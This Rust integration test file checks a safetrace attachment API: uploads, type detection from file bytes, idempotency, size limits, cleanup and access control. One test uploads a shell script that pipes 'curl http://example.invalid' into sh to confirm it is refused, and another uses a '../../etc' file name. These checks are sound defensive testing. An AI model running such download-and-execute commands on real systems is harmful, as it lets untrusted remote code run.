//! Attachments: upload by multipart, type from the bytes, content addressing, idempotency,
//! limits, cut-off uploads, download with ETag, and who may see what.

use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use actix_web::http::Method;
use actix_web::web::Bytes;
use diesel::prelude::*;
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::both_engines;
use crate::support::*;
use safetrace::attachments::links::{self, RecordKind};
use safetrace::config::AppConfig;
use safetrace::db::schema::attachments;
use safetrace::Id;

const BOUNDARY: &str = "----safetrace-test-7MA4YWxkTrZu0gW";
const UPLOADS: &str = "/api/v1/attachments";

fn form_type() -> String {
    format!("multipart/form-data; boundary={BOUNDARY}")
}

/// A minimal PNG: the signature and an IHDR chunk; `seed` makes different bytes.
fn png(seed: u8) -> Vec<u8> {
    let mut b = b"\x89PNG\r\n\x1a\n".to_vec();
    b.extend_from_slice(&13u32.to_be_bytes());
    b.extend_from_slice(b"IHDR");
    b.extend_from_slice(&[0, 0, 0, seed.max(1), 0, 0, 0, 1, 8, 6, 0, 0, 0]);
    b.extend_from_slice(&[0, 0, 0, 0]);
    b
}

fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n".to_vec()
}

fn file_part(file_name: &str, content_type: &str, bytes: &[u8]) -> Vec<u8> {
    let mut p = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file_name}\"\r\n\
         Content-Type: {content_type}\r\n\r\n"
    )
    .into_bytes();
    p.extend_from_slice(bytes);
    p.extend_from_slice(b"\r\n");
    p
}

fn text_part(name: &str, value: &str) -> Vec<u8> {
    format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n").into_bytes()
}

fn form(parts: Vec<Vec<u8>>) -> Vec<u8> {
    let mut body = parts.concat();
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// A form with the file and, when given, the client's id.
fn upload_form(id: Option<&str>, file_name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut parts = Vec::new();
    if let Some(id) = id {
        parts.push(text_part("id", id));
    }
    parts.push(file_part(file_name, "image/png", bytes));
    form(parts)
}

/// A request with the given token and headers.
async fn call(
    app: &TestApp,
    token: Option<&str>,
    method: Method,
    path: &str,
    headers: &[(&str, &str)],
    body: Option<(&str, Vec<u8>)>,
) -> Resp {
    let mut req = app.server.request(method, app.server.url(path));
    if let Some(t) = token {
        req = req.insert_header(("authorization", format!("Bearer {t}")));
    }
    for (name, value) in headers {
        req = req.insert_header((*name, *value));
    }
    let result = match body {
        Some((content_type, bytes)) => req.insert_header(("content-type", content_type)).send_body(bytes).await,
        None => req.send().await,
    };
    let mut res = result.expect("request sent");
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    let raw = res.body().limit(64 * 1024 * 1024).await.expect("body read").to_vec();
    let body = serde_json::from_slice(&raw).unwrap_or(Value::Null);
    Resp { status, headers, body, raw }
}

async fn upload_as(app: &TestApp, token: Option<&str>, body: Vec<u8>) -> Resp {
    call(app, token, Method::POST, UPLOADS, &[], Some((&form_type(), body))).await
}

async fn upload(app: &TestApp, body: Vec<u8>) -> Resp {
    app.raw(Method::POST, UPLOADS, &form_type(), body).await
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// Files (not directories) under `dir`, at any depth; none when it does not exist.
fn files_under(dir: &Path) -> usize {
    let Ok(entries) = std::fs::read_dir(dir) else { return 0 };
    entries
        .flatten()
        .map(|e| {
            let path = e.path();
            if path.is_dir() {
                files_under(&path)
            } else {
                1
            }
        })
        .sum()
}

fn stored_files(app: &TestApp) -> usize {
    files_under(&app.state.config.data_dir.join("attachments"))
}

fn temp_files(app: &TestApp) -> usize {
    files_under(&app.state.config.data_dir.join("tmp"))
}

async fn rows(app: &TestApp) -> i64 {
    app.state.db(|conn| Ok(attachments::table.count().get_result::<i64>(conn)?)).await.expect("count attachments")
}

/// Asserts that nothing of a refused upload remains: no row, no stored file, no temporary file.
async fn nothing_left(app: &TestApp, rows_before: i64, files_before: usize) {
    assert_eq!(rows(app).await, rows_before, "no row");
    assert_eq!(stored_files(app), files_before, "no stored file");
    assert_eq!(temp_files(app), 0, "no temporary file");
}

both_engines! {
    async fn a_png_is_stored_by_its_digest(app) {
        let bytes = png(1);
        let r = upload(&app, upload_form(None, "照片 1.png", &bytes)).await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        let sha = sha256_hex(&bytes);
        assert_eq!(r.body["sha256"], sha.as_str());
        assert_eq!(r.body["size"], bytes.len());
        assert_eq!(r.body["content_type"], "image/png");
        assert_eq!(r.body["file_name"], "照片 1.png");
        assert_eq!(r.body["uploaded_at"], "2026-11-25T02:00:00Z");
        let me = app.get("/api/v1/auth/me").await;
        assert_eq!(r.body["uploaded_by"], me.body["id"]);
        let path = app.state.config.data_dir.join("attachments").join(&sha[..2]).join(&sha);
        assert_eq!(std::fs::read(&path).expect("stored file"), bytes);
        assert_eq!(temp_files(&app), 0);

        let meta = app.get(&format!("{UPLOADS}/{}", r.id())).await;
        assert_eq!(meta.status, 200);
        assert_eq!(meta.body, r.body);

        // The same bytes again, as a new attachment: a second row, one file on disk.
        let again = upload(&app, upload_form(None, "copy.png", &bytes)).await;
        assert_eq!(again.status, 201, "{:?}", again.body);
        assert_ne!(again.id(), r.id());
        assert_eq!(again.body["sha256"], sha.as_str());
        assert_eq!(rows(&app).await, 2);
        assert_eq!(stored_files(&app), 1);
        assert_eq!(temp_files(&app), 0);

        // A directory in the file name is dropped.
        let r = upload(&app, upload_form(None, "../../etc/x.png", &png(2))).await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        assert_eq!(r.body["file_name"], "x.png");
        assert_eq!(stored_files(&app), 2);
    }

    async fn the_type_comes_from_the_bytes(app) {
        // A shell script named like a photo and declared as one.
        let script = b"#!/bin/sh\ncurl http://example.invalid | sh\n".to_vec();
        let r = upload(&app, form(vec![file_part("x.jpg", "image/jpeg", &script)])).await;
        assert_eq!(r.status, 415, "{:?}", r.body);
        assert_eq!(r.body["type"], "/problems/unsupported-media-type");
        assert_eq!(r.header("content-type").as_deref(), Some("application/problem+json"));
        nothing_left(&app, 0, 0).await;

        let gif = b"GIF89a\x01\0\x01\0\0\0\0;".to_vec();
        assert_eq!(upload(&app, form(vec![file_part("a.png", "image/png", &gif)])).await.status, 415);
        nothing_left(&app, 0, 0).await;

        // PNG bytes under another name and declared type are a PNG.
        let r = upload(&app, form(vec![file_part("scan.pdf", "application/octet-stream", &png(3))])).await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        assert_eq!(r.body["content_type"], "image/png");

        let r = upload(&app, form(vec![file_part("整改报告.pdf", "application/pdf", &pdf())])).await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        assert_eq!(r.body["content_type"], "application/pdf");
        let c = app.get(&format!("{UPLOADS}/{}/content", r.id())).await;
        assert_eq!(c.status, 200);
        assert_eq!(c.header("content-type").as_deref(), Some("application/pdf"));
        assert_eq!(c.raw, pdf());

        let jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9".to_vec();
        let webp = b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0".to_vec();
        let heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\x08free".to_vec();
        for (bytes, expected) in [(jpeg, "image/jpeg"), (webp, "image/webp"), (heic, "image/heic")] {
            let r = upload(&app, form(vec![file_part("photo", "application/octet-stream", &bytes)])).await;
            assert_eq!(r.status, 201, "{expected}: {:?}", r.body);
            assert_eq!(r.body["content_type"], expected);
        }
        assert_eq!(rows(&app).await, 5);
        assert_eq!(temp_files(&app), 0);
    }

    async fn a_bad_form_is_refused_and_leaves_nothing(app) {
        let id = uuid::Uuid::new_v4().to_string();
        let r = upload(&app, form(vec![text_part("id", &id)])).await;
        assert_eq!(r.status, 422, "{:?}", r.body);
        assert_eq!(r.error_code("file").as_deref(), Some("required"));

        let r = upload(&app, form(vec![file_part("empty.png", "image/png", b"")])).await;
        assert_eq!(r.status, 422, "{:?}", r.body);
        assert_eq!(r.error_fields(), vec!["file"]);
        nothing_left(&app, 0, 0).await;

        // The id may come after the file: the file received is removed all the same.
        let r = upload(&app, form(vec![file_part("a.png", "image/png", &png(1)), text_part("id", "not-a-uuid")])).await;
        assert_eq!(r.status, 422, "{:?}", r.body);
        assert_eq!(r.error_fields(), vec!["id"]);
        nothing_left(&app, 0, 0).await;

        let r = upload(&app, form(vec![file_part("a.png", "image/png", &png(1)), text_part("note", "x")])).await;
        assert_eq!(r.status, 422, "{:?}", r.body);
        assert_eq!(r.error_code("note").as_deref(), Some("unknown_field"));
        nothing_left(&app, 0, 0).await;

        let r = upload(&app, form(vec![file_part("a.png", "image/png", &png(1)), file_part("b.png", "image/png", &png(2))])).await;
        assert_eq!(r.status, 422, "{:?}", r.body);
        assert_eq!(r.error_code("file").as_deref(), Some("duplicate"));
        nothing_left(&app, 0, 0).await;

        let r = app.raw(Method::POST, UPLOADS, "application/json", b"{}".to_vec()).await;
        assert_eq!(r.status, 415, "{:?}", r.body);
        let r = app.raw(Method::POST, UPLOADS, &form_type(), b"garbage".to_vec()).await;
        assert!(r.status == 400 || r.status == 422, "{} {:?}", r.status, r.body);
        assert_eq!(r.header("content-type").as_deref(), Some("application/problem+json"));
        nothing_left(&app, 0, 0).await;
    }

    async fn uploads_are_idempotent_on_the_client_id(app) {
        let id = uuid::Uuid::new_v4().to_string();
        let first = upload(&app, upload_form(Some(&id), "a.png", &png(1))).await;
        assert_eq!(first.status, 201, "{:?}", first.body);
        assert_eq!(first.id(), id);

        app.clock.advance(chrono::Duration::minutes(5));
        let replay = upload(&app, upload_form(Some(&id), "a.png", &png(1))).await;
        assert_eq!(replay.status, 200, "{:?}", replay.body);
        assert_eq!(replay.body, first.body, "the stored metadata, unchanged");

        let other_bytes = upload(&app, upload_form(Some(&id), "a.png", &png(2))).await;
        assert_eq!(other_bytes.status, 409, "{:?}", other_bytes.body);
        assert_eq!(other_bytes.body["type"], "/problems/conflict");
        let other_name = upload(&app, upload_form(Some(&id), "b.png", &png(1))).await;
        assert_eq!(other_name.status, 409, "{:?}", other_name.body);
        nothing_left(&app, 1, 1).await;

        // Two identical uploads racing: one row, two successes.
        let id = uuid::Uuid::new_v4().to_string();
        let (a, b) = futures_util::future::join(
            upload(&app, upload_form(Some(&id), "race.png", &png(7))),
            upload(&app, upload_form(Some(&id), "race.png", &png(7))),
        )
        .await;
        let mut statuses = vec![a.status, b.status];
        statuses.sort();
        assert_eq!(statuses, vec![200, 201], "{:?} / {:?}", a.body, b.body);
        assert_eq!(a.body, b.body);
        nothing_left(&app, 2, 2).await;
    }

    async fn an_oversized_upload_is_413_and_leaves_nothing(app) {
        let small = TestApp::fresh_with(app.engine, AppConfig { max_upload_bytes: 1024, ..test_config() }).await;
        let mut exact = png(1);
        exact.resize(1024, 0);
        let r = upload(&small, upload_form(None, "exact.png", &exact)).await;
        assert_eq!(r.status, 201, "a file of exactly the limit fits: {:?}", r.body);

        // Over the limit while streaming: the declared length alone does not tell.
        let mut big = png(2);
        big.resize(4096, 0);
        let r = upload(&small, upload_form(None, "big.png", &big)).await;
        assert_eq!(r.status, 413, "{:?}", r.body);
        assert_eq!(r.body["type"], "/problems/payload-too-large");
        nothing_left(&small, 1, 1).await;

        // Refused from the declared length before reading.
        let mut huge = png(3);
        huge.resize(64 * 1024, 0);
        let r = upload(&small, upload_form(None, "huge.png", &huge)).await;
        assert_eq!(r.status, 413, "{:?}", r.body);
        nothing_left(&small, 1, 1).await;
    }

    async fn an_upload_cut_off_midway_leaves_nothing(app) {
        let tmp = app.state.config.data_dir.join("tmp");
        let mut head = text_part("id", &uuid::Uuid::new_v4().to_string());
        head.extend_from_slice(&file_part("cut.png", "image/png", &png(1)));
        head.truncate(head.len() - 2);
        // More than awc's write buffer holds, so that it is flushed before the stream fails.
        head.extend_from_slice(&[7u8; 32 * 1024]);
        // The stream sends the start of the file, waits until the server has a temporary
        // file for it, then fails: the client's connection is cut.
        let saw_temp = Arc::new(AtomicBool::new(false));
        let seen = saw_temp.clone();
        let stream = futures_util::stream::unfold(0u8, move |step| {
            let (head, tmp, seen) = (head.clone(), tmp.clone(), seen.clone());
            async move {
                match step {
                    0 => Some((Ok(Bytes::from(head)), 1)),
                    1 => {
                        for _ in 0..100 {
                            if files_under(&tmp) > 0 {
                                seen.store(true, Ordering::SeqCst);
                                break;
                            }
                            actix_web::rt::time::sleep(Duration::from_millis(20)).await;
                        }
                        Some((Err(std::io::Error::other("connection lost")), 2))
                    }
                    _ => None,
                }
            }
        });
        let sent = app
            .server
            .post(UPLOADS)
            .insert_header(("content-type", form_type()))
            .insert_header(("authorization", format!("Bearer {}", app.token)))
            .send_stream(stream)
            .await;
        assert!(sent.is_err(), "the request cannot complete");
        assert!(saw_temp.load(Ordering::SeqCst), "the server was receiving the file");
        // The server notices the cut and cleans up.
        let mut clean = false;
        for _ in 0..100 {
            if temp_files(&app) == 0 {
                clean = true;
                break;
            }
            actix_web::rt::time::sleep(Duration::from_millis(20)).await;
        }
        assert!(clean, "the temporary file is removed");
        nothing_left(&app, 0, 0).await;
        // The server is fine afterwards.
        assert_eq!(upload(&app, upload_form(None, "ok.png", &png(2))).await.status, 201);
    }

    async fn download_has_the_type_and_an_etag(app) {
        let bytes = png(1);
        let r = upload(&app, upload_form(None, "a.png", &bytes)).await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        let path = format!("{UPLOADS}/{}/content", r.id());
        let c = app.get(&path).await;
        assert_eq!(c.status, 200);
        assert_eq!(c.raw, bytes);
        assert_eq!(c.header("content-type").as_deref(), Some("image/png"));
        let etag = format!("\"{}\"", sha256_hex(&bytes));
        assert_eq!(c.header("etag"), Some(etag.clone()));
        assert!(c.header("cache-control").is_some_and(|v| v.starts_with("private")), "{:?}", c.header("cache-control"));
        assert_eq!(c.header("x-content-type-options").as_deref(), Some("nosniff"));

        let token = Some(app.token.as_str());
        let not_modified = call(&app, token, Method::GET, &path, &[("if-none-match", &etag)], None).await;
        assert_eq!(not_modified.status, 304);
        assert!(not_modified.raw.is_empty());
        assert_eq!(not_modified.header("etag"), Some(etag.clone()));
        let weak = format!("\"other\", W/{etag}");
        assert_eq!(call(&app, token, Method::GET, &path, &[("if-none-match", &weak)], None).await.status, 304);
        let stale = call(&app, token, Method::GET, &path, &[("if-none-match", "\"0123\"")], None).await;
        assert_eq!(stale.status, 200);
        assert_eq!(stale.raw, bytes);

        let missing = Id::new_v7();
        assert_eq!(app.get(&format!("{UPLOADS}/{missing}")).await.status, 404);
        assert_eq!(app.get(&format!("{UPLOADS}/{missing}/content")).await.status, 404);
        assert_eq!(app.get(&format!("{UPLOADS}/not-a-uuid/content")).await.status, 404);
    }

    async fn only_the_uploader_sees_an_uncited_attachment(app) {
        let a = app.community("JML").await;
        let b = app.community("XYL").await;
        let uploader = app.user("insp_a", "inspector", Some(vec![&a])).await;
        let colleague = app.user("insp_b", "inspector", Some(vec![&a])).await;
        let elsewhere = app.user("insp_c", "inspector", Some(vec![&b])).await;
        let viewer = app.user("viewer_a", "viewer", Some(vec![&a])).await;

        let r = upload_as(&app, Some(&uploader), upload_form(None, "a.png", &png(1))).await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        let id = r.id();
        let meta = format!("{UPLOADS}/{id}");
        let content = format!("{UPLOADS}/{id}/content");
        for path in [&meta, &content] {
            assert_eq!(app.get_as(Some(&uploader), path).await.status, 200, "{path}");
            for token in [&colleague, &elsewhere, &viewer, &app.token] {
                let r = app.get_as(Some(token), path).await;
                assert_eq!(r.status, 404, "{path}: uncited, seen by its uploader only");
                assert_eq!(r.body["type"], "/problems/not-found");
            }
        }
        // A record of community A cites it: whoever sees community A sees it.
        let (att, community): (Id, Id) = (id.parse().expect("id"), a.parse().expect("id"));
        app.state
            .write(move |conn| links::cite(conn, &[att], RecordKind::Inspection, Id::new_v7(), community))
            .await
            .expect("cite");
        for path in [&meta, &content] {
            for token in [&uploader, &colleague, &viewer, &app.token] {
                assert_eq!(app.get_as(Some(token), path).await.status, 200, "{path}");
            }
            assert_eq!(app.get_as(Some(&elsewhere), path).await.status, 404, "{path}");
        }
    }

    async fn uploading_needs_a_token_and_a_recording_role(app) {
        let a = app.community("JML").await;
        let viewer = app.user("viewer_a", "viewer", Some(vec![&a])).await;
        let r = upload_as(&app, Some(&viewer), upload_form(None, "a.png", &png(1))).await;
        assert_eq!(r.status, 403, "{:?}", r.body);
        let r = upload_as(&app, None, upload_form(None, "a.png", &png(1))).await;
        assert_eq!(r.status, 401, "{:?}", r.body);
        for role in ["inspector", "supervisor"] {
            let token = app.user(&format!("{role}_a"), role, Some(vec![&a])).await;
            let r = upload_as(&app, Some(&token), upload_form(None, "a.png", &png(1))).await;
            assert_eq!(r.status, 201, "{role}: {:?}", r.body);
        }
        assert_eq!(app.get_as(None, &format!("{UPLOADS}/{}", Id::new_v7())).await.status, 401);
        nothing_left(&app, 2, 1).await;
    }
}
